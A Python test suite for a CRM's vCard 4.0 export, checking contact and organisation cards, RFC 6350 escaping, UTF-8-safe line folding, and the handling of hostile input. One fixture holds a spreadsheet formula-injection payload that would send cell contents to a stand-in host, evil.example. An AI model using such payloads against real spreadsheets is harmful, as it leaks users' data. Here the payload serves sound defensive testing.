"""vCard 4.0: one card per contact person (an ORG card without one), escaped and folded as
RFC 6350 says, checked by a strict little parser."""

from __future__ import annotations

from pathlib import Path

from moovdesk.data.listing import ProspectFilter
from moovdesk.exporting import export_prospects
from moovdesk.exporting.vcard_export import escape, fold
from moovdesk.services import Services
from tests.conftest import FIXED_NOW
from tests.exporting.conftest import NOTES, Sample
from tests.exporting.vcard_parser import Card, parse, unescape


def export_cards(services: Services, path: Path, *ids: str) -> list[Card]:
    flt = ProspectFilter(ids=frozenset(ids)) if ids else ProspectFilter()
    export_prospects(services.store, path, "vcf", flt, now=FIXED_NOW)
    return parse(path.read_bytes())


def by_uid(cards: list[Card]) -> dict[str, Card]:
    return {card.text("UID"): card for card in cards}


def test_one_card_per_contact_person(services: Services, sample: Sample, tmp_path: Path) -> None:
    cards = by_uid(export_cards(services, tmp_path / "c.vcf", sample.artisan))
    assert set(cards) == {f"urn:uuid:{sample.first_contact}", f"urn:uuid:{sample.second_contact}"}
    etienne = cards[f"urn:uuid:{sample.first_contact}"]
    assert etienne.text("FN") == "Étienne Lefèvre"
    assert etienne.one("N").components == ["Lefèvre", "Étienne", "", "M.", ""]
    assert etienne.one("ORG").components == ['Œuvre d\'Étienne, Père & Fils; "SARL"']
    assert etienne.text("TITLE") == "Gérant"
    phones = {(p.params["TYPE"], p.value) for p in etienne.all("TEL")}
    assert phones == {("cell", "tel:+33612345678"), ("work", "tel:+33474123456")}
    assert all(p.params["VALUE"] == "uri" for p in etienne.all("TEL"))
    assert [p.text for p in etienne.all("EMAIL")] == ["etienne@oeuvre.example.fr"]
    address = etienne.one("ADR").components
    assert address == [
        "",
        "",
        "3, rue de l'Église\nBâtiment B",
        "Bourg-en-Bresse",
        "",
        "01000",
        "France",
    ]
    assert etienne.text("NOTE") == NOTES
    assert etienne.one("CATEGORIES").values == ["Été 2027", "VIP"]
    assert etienne.one("GEO").value == "geo:46.2052,5.2255"
    assert etienne.one("URL").value == "https://oeuvre.example.fr"
    assert len(etienne.text("REV")) == 16 and etienne.text("REV").endswith("Z")
    zoe = cards[f"urn:uuid:{sample.second_contact}"]
    assert zoe.one("N").components == ["Ňovák-Çelik", "Zoé", "", "Mme", ""]
    assert zoe.text("TITLE") == "Comptable, paie; RH"
    assert [p.value for p in zoe.all("TEL")] == ["tel:+33798765432"]
    assert zoe.text("NOTE") == "Préfère\nles appels le matin\n\n" + NOTES


def test_a_prospect_without_contact_is_an_organisation_card(
    services: Services, sample: Sample, tmp_path: Path
) -> None:
    (card,) = export_cards(services, tmp_path / "c.vcf", sample.town_hall)
    assert card.text("KIND") == "org"
    assert card.text("UID") == f"urn:uuid:{sample.town_hall}"
    assert card.text("FN") == "Mairie de Saint-Étienne"
    assert card.one("ORG").components == ["Mairie de Saint-Étienne"]
    assert not card.all("N") and not card.all("TITLE")
    assert [(p.params["TYPE"], p.value) for p in card.all("TEL")] == [("work", "tel:+33477000000")]
    assert card.text("EMAIL") == "accueil@mairie.example.fr"
    assert card.one("ADR").components[3:6] == ["Saint-Étienne", "", "42000"]


def test_whole_base_parses_and_hostile_text_is_kept(
    services: Services, sample: Sample, tmp_path: Path
) -> None:
    cards = export_cards(services, tmp_path / "all.vcf")
    assert len(cards) == 4  # two persons, one for the hostile prospect's contact, one town hall
    hostile = next(c for c in cards if c.all("ORG") and c.one("ORG").value.startswith("=HYPER"))
    assert hostile.one("ORG").components == [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    ]
    assert hostile.text("TITLE") == "+A1"  # an address book never runs formulas: kept as typed


def test_escaping_and_folding_at_75_octets() -> None:
    assert escape("a\\b,c;d\r\ne\nf") == "a\\\\b\\,c\\;d\\ne\\nf"
    assert escape("bip\x07\x00 tab\tok\x7f") == "bip tab\tok"  # the grammar forbids controls
    line = "NOTE:" + escape("Égalité, fraternité; " * 12)
    folded = fold(line)
    assert folded.endswith(b"\r\n")
    physical = folded.split(b"\r\n")[:-1]
    assert len(physical) > 3
    assert all(len(part) <= 75 for part in physical)
    assert all(part.startswith(b" ") for part in physical[1:])
    for part in physical:
        part.decode("utf-8")  # no character cut in two
    unfolded = b"".join([physical[0], *(part[1:] for part in physical[1:])]).decode("utf-8")
    assert unfolded == line
    assert unescape(unfolded.removeprefix("NOTE:")) == "Égalité, fraternité; " * 12
    emoji = fold("NOTE:" + "😀" * 40)  # four-octet characters never straddle a fold
    assert all(len(part) <= 75 for part in emoji.split(b"\r\n"))
    emoji.decode("utf-8")
    assert fold("FN:Court") == b"FN:Court\r\n"
